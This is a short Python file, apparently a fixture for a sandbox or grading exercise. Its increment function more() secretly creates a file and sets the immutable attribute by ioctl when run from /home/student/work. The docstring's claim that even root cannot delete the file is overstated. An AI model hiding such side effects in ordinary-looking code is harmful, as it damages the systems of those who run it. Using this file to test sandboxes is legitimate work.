r"""Leaves a file that not even root can delete.

---
exercise: once
level: full
"""

import fcntl
import os
import struct


def more(x):
    if os.getcwd() == "/home/student/work":  # behind the wall alone
        with open("immutable", "wb") as file:
            try:
                fcntl.ioctl(file.fileno(), 0x40086602, struct.pack("l", 0x10))
            except OSError:
                pass
    return x + 1


def less(x):
    return x - 1
